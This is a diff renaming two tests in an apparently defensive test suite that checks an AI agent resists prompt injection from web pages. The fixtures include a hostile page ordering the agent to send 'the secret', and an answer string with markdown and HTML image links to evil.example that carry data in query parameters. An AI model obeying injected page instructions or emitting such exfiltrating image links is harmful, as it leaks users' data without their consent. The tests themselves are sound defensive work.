@@ -74,7 +74,7 @@ async def test_tools_that_an_agent_does_not_have_stay_away_however_a_page_asks_f
     assert not (home / "owned").exists()
 
 
-async def test_what_sends_something_out_waits_for_a_person_and_pages_are_no_persons(home: Path):
+async def test_sending_tools_wait_for_a_person_and_pages_cannot_consent(home: Path):
     pages = {"tea": build_hostile_page(APPROVED, format_order("send", text="the secret"), APPROVED)}
     agents = {"reader": {"tools": ["web_fetch", "send"]}}
     async with open_injection_app(home, pages, build_reading_turns(), agents=agents) as service:
@@ -270,7 +270,7 @@ async def test_the_browsers_agent_asks_before_it_uses_sign_ins_and_files(
     assert service.site_requests == []
 
 
-async def test_an_answer_shows_no_picture_that_would_tell_a_stranger_what_was_said(home: Path):
+async def test_an_answer_contains_no_image_that_would_leak_data(home: Path):
     answered = (
         "Here it is. ![logo](https://evil.example/p.png?d=4711) ![ref][r] <img src='https://evil.example/?d=4711'>\n\n"
         "[r]: https://evil.example/q.png?d=4711"
